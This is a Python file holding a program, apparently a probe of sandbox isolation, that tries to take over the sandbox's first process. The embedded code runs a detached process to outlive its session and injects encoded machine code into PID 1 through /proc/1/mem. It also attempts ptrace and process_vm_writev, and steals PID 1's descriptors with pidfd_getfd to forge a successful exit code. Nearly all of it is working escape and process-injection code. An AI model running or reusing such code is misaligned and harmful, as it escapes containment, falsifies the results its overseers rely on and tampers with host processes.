"""A program that takes over its sandbox's first process, to outlive its run and to forge its exit code.

It writes code into the first process through /proc/1/mem, process_vm_writev or ptrace, so that this one
neither ends nor dies with its parent, and takes its descriptors with pidfd_getfd, to report an exit code of
its own making. Each way that works is printed. It ends with 7; a forged exit code is 0.
"""

TAKEOVER = r"""
import ctypes, os, platform, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
call = lambda *words: libc.syscall(*map(ctypes.c_long, words))
GETFD, OPEN, WRITEV = 438, 434, 311 if platform.machine() == "x86_64" else 271
# prctl(PR_SET_PDEATHSIG, 0); for (;;) pause()
CODE = bytes.fromhex("b89d000000bf0100000031f60f05b8220000000f05ebf7")

def orphan(program):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            program()
        os._exit(0)
    os.wait()

def stay():
    for descriptor in (0, 1, 2):
        os.close(descriptor)
    os.execvp("sleep", [sys.argv[1], "1000"])

class Piece(ctypes.Structure):
    _fields_ = [("at", ctypes.c_void_p), ("length", ctypes.c_size_t)]

orphan(stay)
buffer = ctypes.create_string_buffer(b"x")
here = Piece(ctypes.addressof(buffer), 1)
if call(WRITEV, 1, ctypes.addressof(here), 1, ctypes.addressof(here), 1, 0) >= 0:
    print("process_vm_writev")
if libc.ptrace(16, 1, 0, 0) == 0:
    print("ptrace")
for file in ("mem", "environ", "maps", "fd/0", "exe", "root", "cwd"):
    try:
        os.close(os.open(f"/proc/1/{file}", os.O_RDONLY))
        print(file)
    except OSError:
        pass
try:
    at = int(open("/proc/1/syscall").read().split()[-1], 16)
    os.pwrite(os.open("/proc/1/mem", os.O_RDWR), CODE, at)
    print("patched")
except OSError:
    pass
first = call(OPEN, 1, 0)
for number in range(64):
    taken = call(GETFD, first, number, 0)
    if taken >= 0:
        print("pidfd_getfd")
        if "eventfd" in os.readlink(f"/proc/self/fd/{taken}"):
            orphan(lambda: os._exit(0))
            time.sleep(0.1)
            os.write(taken, struct.pack("q", 1))
sys.stdout.flush()
time.sleep(0.2)
os._exit(7)
"""
